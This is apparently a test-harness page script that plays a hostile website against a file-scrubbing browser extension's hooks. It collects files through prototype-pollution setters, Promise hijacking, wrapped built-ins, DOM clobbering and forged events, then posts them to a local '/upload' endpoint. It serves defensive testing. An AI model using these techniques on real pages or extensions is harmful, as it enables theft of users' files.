// SPDX-License-Identifier: Apache-2.0
// What a page can do to the functions that it shares with the hooks of the extension. Whatever file comes by goes to the
// server, by functions that were kept before: the original must not be among them.
(() => {
  const {apply, ownKeys} = Reflect;
  const {defineProperty, getOwnPropertyDescriptor, getPrototypeOf, setPrototypeOf} = Object;
  const [send, Form, PlainBlob, PlainSet] = [window.fetch.bind(window), FormData, Blob, Set];
  const {has, add} = Set.prototype;
  const {hasOwnProperty: hasOwn} = Object.prototype;
  const {append} = FormData.prototype;
  const {getFile} = window.FileSystemFileHandle?.prototype ?? {};
  const {getAsFile} = DataTransferItem.prototype;
  const sizeOf = getOwnPropertyDescriptor(Blob.prototype, 'size').get;
  const isBlob = (value) => {
    try {
      return apply(sizeOf, value, []) > 0;
    } catch {
      return false;
    }
  };
  const sent = new PlainSet();
  let busy = false;

  /** Sends the file that a value is, or leads to. What it uses itself may be tapped too. */
  function steal(value) {
    if (busy) return;
    busy = true;
    try {
      follow(value, 0);
    } finally {
      busy = false;
    }
  }

  function follow(value, depth) {
    if (typeof value !== 'object' || value === null || depth > 3 || apply(has, sent, [value])) return;
    apply(add, sent, [value]);
    if (isBlob(value)) {
      const form = new Form();
      apply(append, form, ['file', value, 'stolen']);
      void send('/upload', {method: 'POST', body: form});
      return;
    }
    if (value instanceof PlainBlob) return;
    for (const method of ['getFile', 'file', 'getAsFile']) {
      try {
        if (method === 'getFile')
          (value.getFile?.(), getFile && void apply(getFile, value, []).then(steal, () => undefined));
        else if (method === 'getAsFile') follow(apply(getAsFile, value, []), depth + 1);
        else if (typeof value.file === 'function') value.file(steal);
      } catch {
        // not of that kind
      }
    }
    for (const key of ownKeys(value)) {
      const descriptor = getOwnPropertyDescriptor(value, key);
      if (descriptor && apply(hasOwn, descriptor, ['value'])) follow(descriptor.value, depth + 1);
    }
  }

  /** Puts a thief in the place of a function; it still does what it did. */
  function tap(holder, name) {
    const descriptor = holder && setPrototypeOf(getOwnPropertyDescriptor(holder, name) ?? {}, null);
    for (const part of ['value', 'get', 'set']) {
      const native = descriptor?.[part];
      if (typeof native !== 'function') continue;
      descriptor[part] = function (...args) {
        steal(this);
        for (let index = 0; index < args.length; index++) steal(args[index]);
        const result = new.target ? Reflect.construct(native, args, new.target) : apply(native, this, args);
        steal(result);
        return result;
      };
      if (part === 'value') defineProperty(descriptor.value, 'prototype', {value: native.prototype, writable: true});
    }
    if (descriptor?.configurable) defineProperty(holder, name, descriptor);
  }
  const tapAll = (holder) => {
    if (holder) for (const name of ownKeys(holder)) if (name !== 'constructor') tap(holder, name);
  };
  const nothing = () => undefined;

  const attacks = {
    /** Setters for whatever is written to an object or a list, and `then` for whatever a promise is resolved with. */
    prototypes() {
      const names = ['file', 'files', 'original', 'known', 'entry', 'handle', 'resolve', 'bytes', 'data'];
      for (const name of names) {
        defineProperty(Object.prototype, name, {
          __proto__: null,
          configurable: true,
          get: nothing,
          set(value) {
            steal(value);
            defineProperty(this, name, {__proto__: null, value, writable: true, configurable: true, enumerable: true});
          },
        });
      }
      for (let index = 0; index < 9; index++) {
        defineProperty(Array.prototype, index, {
          __proto__: null,
          configurable: true,
          get: nothing,
          set(value) {
            steal(value);
            defineProperty(this, index, {__proto__: null, value, writable: true, configurable: true, enumerable: true});
          },
        });
      }
      const then = function (resolve) {
        steal(this);
        resolve?.(undefined);
      };
      for (const prototype of [Blob.prototype, File.prototype, FileList.prototype, Object.prototype]) {
        try {
          defineProperty(prototype, 'then', {__proto__: null, value: then, configurable: true, writable: true});
          if (prototype === Object.prototype) setTimeout(() => delete Object.prototype.then, 4000);
        } catch {
          // may not
        }
      }
    },
    collections() {
      for (const {prototype} of [Map, WeakMap, Set, WeakSet, Array]) tapAll(prototype);
      tap(Array.prototype, Symbol.iterator);
      tapAll(getPrototypeOf([][Symbol.iterator]()));
    },
    promises() {
      class Thief extends Promise {}
      for (const name of ['then', 'catch', 'finally']) {
        const native = Promise.prototype[name];
        Promise.prototype[name] = function (...handlers) {
          return apply(
            native,
            this,
            handlers.map((handler) =>
              typeof handler === 'function'
                ? (value) => {
                    steal(value);
                    return handler(value);
                  }
                : handler,
            ),
          );
        };
      }
      defineProperty(Promise.prototype, 'constructor', {configurable: true, get: () => Thief});
      defineProperty(Promise, Symbol.species, {configurable: true, get: () => Thief});
      window.Promise = Thief;
    },
    calls() {
      for (const name of ['call', 'apply', 'bind']) tap(Function.prototype, name);
      for (const name of ['apply', 'construct', 'get', 'set', 'defineProperty']) tap(Reflect, name);
      for (const name of ['defineProperty', 'assign', 'entries', 'fromEntries', 'values']) tap(Object, name);
      for (const name of ['parse', 'stringify']) tap(JSON, name);
      for (const name of ['setTimeout', 'structuredClone', 'queueMicrotask', 'postMessage']) tap(window, name);
    },
    files() {
      for (const holder of [Blob, File, DataTransfer, DataTransferItem, DataTransferItemList, FileList, FileReader])
        tapAll(holder.prototype);
      for (const name of ['files', 'value', 'webkitEntries']) tap(HTMLInputElement.prototype, name);
      for (const name of ['File', 'Blob', 'DataTransfer', 'FileReader', 'FormData']) tap(window, name);
      tap(URL, 'createObjectURL');
      tapAll(window.FileSystemFileHandle?.prototype);
      tapAll(window.FileSystemHandle?.prototype);
    },
    events() {
      const holders = [EventTarget, Event, UIEvent, MouseEvent, DragEvent, ClipboardEvent, InputEvent, MessagePort];
      for (const {prototype} of holders) tapAll(prototype);
      for (const name of ['Event', 'MouseEvent', 'DragEvent', 'ClipboardEvent']) tap(window, name);
      for (const name of ['stopImmediatePropagation', 'stopPropagation', 'preventDefault'])
        Event.prototype[name] = nothing;
      tapAll(Node.prototype);
      tapAll(Element.prototype);
    },
    /** Elements whose names stand in the place of what a document has. */
    names() {
      const root = document.documentElement;
      const names = [
        ...['documentElement', 'visibilityState', 'createElementNS', 'createElement', 'querySelectorAll', 'body'],
        ...['addEventListener', 'elementFromPoint', 'activeElement', 'implementation', 'adoptNode', 'dispatchEvent'],
      ];
      for (const name of names) {
        const image = new Image();
        image.name = name;
        Element.prototype.append.call(root, image);
      }
    },
    /** Events and messages with our names. */
    forgeries() {
      const input = document.createElement('input');
      input.type = 'file';
      const names = ['scrubjay-bridge', 'token', 'paths', 'capture', 'admitted', 'open', 'drop', 'paste'];
      setInterval(() => {
        for (const name of names) {
          input.setAttribute(name, JSON.stringify({id: 1, places: [0], capture: 1, strings: [], items: [0]}));
          document.dispatchEvent(new MouseEvent(name, {relatedTarget: input}));
          window.dispatchEvent(new CustomEvent(name, {detail: 0}));
        }
        const message = {type: 'pass', id: 1, original: true, choice: 'original'};
        window.postMessage(message, '*');
        new MessageChannel().port1.postMessage(message);
        try {
          window.chrome?.runtime?.sendMessage?.(message);
        } catch {
          // no such thing for pages
        }
      }, 20);
      for (const name of names) addEventListener(name, (event) => steal(event.relatedTarget?.files?.[0]), true);
    },
    /** The document is written anew while the files are being cleaned. */
    rewriting() {
      addEventListener('click', () => setTimeout(() => document.open().write('<p>Something else</p>'), 50));
      addEventListener('drop', nothing);
    },
  };

  const {searchParams} = new URL(location.href);
  window.strike = () => attacks[searchParams.get('attack')]();
  if (searchParams.get('when') === 'before') window.strike();

  // Takes what there is to take, as any page does.
  const look = (event) => {
    const transfer = event.dataTransfer ?? event.clipboardData;
    for (const file of event.target?.files ?? []) steal(file);
    for (const file of transfer?.files ?? []) steal(file);
    for (const item of transfer?.items ?? []) {
      steal(item.getAsFile());
      item.webkitGetAsEntry?.()?.file?.(steal);
      const handle = item.getAsFileSystemHandle?.();
      handle?.then?.((got) => got?.getFile?.()?.then?.(steal, nothing), nothing);
    }
  };
  for (const type of ['input', 'change', 'drop', 'paste']) addEventListener(type, look, true);
  addEventListener('dragover', (event) => event.preventDefault());
})();
